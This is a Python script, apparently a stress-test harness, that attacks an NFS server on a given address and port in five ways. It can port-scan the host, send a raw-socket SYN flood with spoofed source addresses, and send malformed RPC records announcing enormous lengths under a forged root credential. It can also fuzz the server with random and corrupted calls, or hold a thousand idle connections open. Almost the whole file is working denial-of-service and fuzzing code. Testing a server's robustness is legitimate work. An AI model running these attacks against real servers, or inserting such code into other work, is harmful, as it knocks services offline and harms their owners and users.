#!/usr/bin/env python3
"""attacker.py KIND OWN_ADDRESS ADDRESS NFS_PORT — attacks an NFS server in one way, and says what it did.

Kinds: scan, flood, bombs, garbage, idle. Standard library only; flood needs raw sockets.
"""
import random
import resource
import socket
import struct
import sys
import time

OWN_ADDRESS = sys.argv[2] if len(sys.argv) > 2 else ""
CONNECT_SECONDS = 2
# Half-open and idle connections held at a time, and for how long.
IDLE_CONNECTIONS = 1000
IDLE_SECONDS = 8
FLOOD_SYNS = 30_000
LAST_FRAGMENT = 1 << 31


def connected(address, port):
    connection = socket.create_connection((address, port), CONNECT_SECONDS, (OWN_ADDRESS, 0))
    connection.settimeout(CONNECT_SECONDS)
    return connection


def opaque(body, length=None):
    padding = -len(body) % 4
    return struct.pack(">I", len(body) if length is None else length) + body + bytes(padding)


def call(program, version, procedure, arguments, credential=None):
    """A record with a call of root's."""
    if credential is None:
        sys_body = struct.pack(">I", 0) + opaque(b"attacker") + struct.pack(">III", 0, 0, 0)
        credential = struct.pack(">I", 1) + opaque(sys_body)
    xid = random.getrandbits(32)
    head = struct.pack(">IIIIII", xid, 0, 2, program, version, procedure)
    body = head + credential + struct.pack(">II", 0, 0) + arguments
    return struct.pack(">I", LAST_FRAGMENT | len(body)) + body


def scan(address, _port):
    """Connects to ports, says hello in another protocol, and goes."""
    open_ports = 0
    for port in [*range(1, 2100), *range(20_000, 20_100), *range(60_000, 60_100)]:
        try:
            with connected(address, port) as connection:
                open_ports += 1
                connection.sendall(b"GET / HTTP/1.0\r\n\r\n")
        except OSError:
            pass
    return f"{open_ports} open ports"


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, target, source_port, target_port):
    ports = struct.pack(">HH", source_port, target_port)
    rest = struct.pack(">IIBBHHH", random.getrandbits(32), 0, 5 << 4, 2, 1000, 0, 0)
    pseudo = source + target + struct.pack(">BBH", 0, 6, 20)
    total = checksum(pseudo + ports + rest)
    tcp = ports + rest[:12] + struct.pack(">H", total) + rest[14:]
    # The kernel fills in the header's checksum.
    header = struct.pack(">BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0)
    return header + source + target + tcp


def flood(address, port):
    """SYNs from neighbours that do not exist, and from ourselves, which resets what is answered."""
    target = socket.inet_aton(address)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in range(FLOOD_SYNS):
            nobody = target[:3] + bytes([100 + number % 150])
            source = socket.inet_aton(OWN_ADDRESS) if number % 4 == 0 else nobody
            packet = syn(source, target, 1024 + number % 60_000, port)
            try:
                raw.sendto(packet, (address, 0))
            except OSError:
                time.sleep(0.001)
            if number % 100 == 0:
                time.sleep(0.01)
    return f"{FLOOD_SYNS} SYNs"


def answered(address, port, stream):
    """Sends a stream on a connection of its own; whether anything came back before it was closed."""
    try:
        with connected(address, port) as connection:
            connection.settimeout(0.2)
            connection.sendall(stream)
            return bool(connection.recv(4096))
    except OSError:
        return False


def bombs(address, port):
    """Lengths that are announced and never come."""
    lengths = [65, 401, 1025, 1 << 20, 0x7FFFFFFC, 0x7FFFFFFF, 1 << 31, 0xFFFFFFFF]
    streams = [struct.pack(">I", length) + bytes(64) for length in lengths]
    for length in lengths:
        announced = struct.pack(">I", length) + bytes(64)
        for procedure in range(1, 22):
            streams.append(call(100_003, 3, procedure, announced))
        streams.append(call(100_003, 3, 3, opaque(bytes(32)) + announced))
        streams.append(call(100_005, 3, 1, announced))
        write = opaque(bytes(32)) + struct.pack(">QIII", 0, length, 0, length)
        streams.append(call(100_003, 3, 7, write + bytes(64)))
        for flavor in (0, 1, 6, 7):
            credential = struct.pack(">I", flavor) + announced
            streams.append(call(100_003, 3, 0, b"", credential))
    streams.append(bytes(4 * 1_000_000))
    replies = sum(answered(address, port, stream) for stream in streams)
    return f"{len(streams)} bombs, {replies} answered"


def garbage(address, port):
    """Random bytes, and good calls with random bytes in them."""
    chance = random.Random(1)
    replies = 0
    for number in range(600):
        if number % 2 == 0:
            stream = chance.randbytes(chance.randrange(1, 4000))
        else:
            spoiled = bytearray(call(100_003, 3, chance.randrange(22), opaque(bytes(32)) + bytes(64)))
            for _ in range(chance.randrange(1, 8)):
                spoiled[chance.randrange(4, len(spoiled))] = chance.randrange(256)
            stream = bytes(spoiled)
        replies += answered(address, port, stream)
    return f"600 streams, {replies} answered"


def idle(address, port):
    """Connections that say nothing, or begin to say something."""
    beginnings = [b"", b"\x80", b"\x80\x00\x00\x80", call(100_003, 3, 7, bytes(64))[:60]]
    connections = []
    for number in range(IDLE_CONNECTIONS):
        try:
            connection = connected(address, port)
            connection.sendall(beginnings[number % len(beginnings)])
            connections.append(connection)
        except OSError:
            pass
    time.sleep(IDLE_SECONDS)
    for connection in connections:
        connection.close()
    return f"{len(connections)} connections"


KINDS = {kind.__name__: kind for kind in (scan, flood, bombs, garbage, idle)}

if __name__ == "__main__":
    if len(sys.argv) != 5 or sys.argv[1] not in KINDS:
        sys.exit(__doc__)
    resource.setrlimit(resource.RLIMIT_NOFILE, (2 * IDLE_CONNECTIONS, 2 * IDLE_CONNECTIONS))
    print(f"{sys.argv[1]}: {KINDS[sys.argv[1]](sys.argv[3], int(sys.argv[4]))}")
